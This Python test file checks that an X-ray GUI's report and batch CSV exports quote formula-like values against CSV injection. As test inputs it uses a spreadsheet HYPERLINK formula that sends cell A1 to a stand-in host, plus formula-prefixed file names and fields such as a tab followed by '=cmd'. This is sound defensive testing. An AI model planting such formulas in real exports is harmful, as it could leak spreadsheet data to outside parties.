"""The report and batch tables quote text a spreadsheet would run as a formula, not numbers."""

import csv

import pytest

from core.io import read_image, write_new_dicom
from core.noise import phantom_image
from xraygui.jobs import write_batch_csv
from xraygui.reports import ReportContent, write_report

pytestmark = pytest.mark.gui

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def _rows(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("identifiers", [False, True])
def test_a_formula_file_and_patient_name_are_text_in_the_report_table(qapp, tmp_path, identifiers):
    path = tmp_path / "=1+2.dcm"
    pixels = phantom_image((32, 32), bits_stored=12, photons_per_pixel=2000.0, seed=1)
    write_new_dicom(pixels, path, bits_stored=12, patient_name=FORMULA_NAME, patient_id="-2+3")
    image = read_image(path)
    content = ReportContent.from_session(
        source=image,
        image=image,
        reference=None,
        dose=None,
        result=None,
        rows=[],
        noise=(-1.5, None),
        include_identifiers=identifiers,
    )
    table = write_report(content, tmp_path / "report")[2]
    (row,) = _rows(table)
    assert row["noise_before"] == "-1.5"  # a number is written as it is
    if not identifiers:
        assert row["source"].startswith("source image ")  # named by its hash, not its name
        assert row["patient_PatientName"] == ""
        return
    assert row["source"] == str(path)  # a full path starts with no formula sign
    assert row["patient_PatientName"] == "'" + FORMULA_NAME
    assert row["patient_PatientID"] == "'-2+3"


def test_a_formula_file_name_is_text_in_the_batch_table_and_numbers_stay(tmp_path):
    path = tmp_path / "batch_metrics.csv"
    rows = [
        {
            "source": "=1+2.dcm",
            "output": "@out.png",
            "noise_before": -1.5,
            "noise_after": "nan",
            "t_start": "-inf",
            "error": "\t=cmd",
        }
    ]
    write_batch_csv(rows, path)
    (row,) = _rows(path)
    assert row["source"] == "'=1+2.dcm" and row["output"] == "'@out.png"
    assert row["error"] == "'\t=cmd"
    assert (row["noise_before"], row["noise_after"], row["t_start"]) == ("-1.5", "nan", "-inf")
